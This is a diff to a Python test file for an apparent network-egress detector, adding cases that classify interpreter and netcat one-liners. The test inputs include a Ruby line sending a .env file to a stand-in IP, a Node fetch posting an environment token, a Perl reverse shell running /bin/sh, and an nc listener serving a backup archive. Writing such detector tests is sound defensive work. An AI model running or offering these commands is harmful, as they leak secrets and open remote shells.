@@ -99,13 +99,26 @@ def test_each_one_liner_is_named_by_its_kind(cmd: str, kind: str) -> None:
 @pytest.mark.parametrize(
     "cmd",
     [
-        'ruby -e \'require "socket"; TCPSocket.new("198.51.100.1", 80)\'',
-        "node -e \"fetch('https://x.example')\"",
-        "perl -e 'use Socket; connect(S, 1)'",
+        'ruby -e \'require "socket"; TCPSocket.new("198.51.100.1", 80).puts File.read(".env")\'',
+        "node -e \"fetch('https://x.example', {method: 'POST', body: process.env.TOKEN})\"",
+        'perl -e \'use Socket; connect(S, 1); open(STDOUT, ">&S"); exec("/bin/sh -i")\'',
     ],
 )
 def test_other_interpreters_one_liners_are_network_one_liners(cmd: str) -> None:
     assert egress(cmd) == "network one-liner"
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        'ruby -e \'require "socket"; TCPSocket.new("198.51.100.1", 80)\'',
+        "node -e \"fetch('https://x.example').then(r => console.log(r.status))\"",
+        "perl -e 'use Socket; connect(S, 1)'",
+    ],
+)
+def test_interpreter_one_liners_that_only_connect_or_read_are_quiet(cmd: str) -> None:
+    """Near miss: the network used, nothing sent (like ``nc -z``, like a plain ``curl``)."""
+    assert egress(cmd) is None
 
 
 @pytest.mark.parametrize(
@@ -138,7 +151,8 @@ def test_a_private_host_does_not_hide_a_public_one_in_the_same_command() -> None
 
 
 def test_a_raw_socket_naming_only_files_counts_as_remote() -> None:
-    assert egress("nc -l backup.tar 4444") == "raw socket"
+    assert egress("nc -l 4444 < backup.tar") == "raw socket"  # serves the file to anyone
+    assert egress("nc -l backup.tar 4444") is None  # listens, sends nothing
 
 
 def test_the_finding_names_the_kind_and_the_tool() -> None:
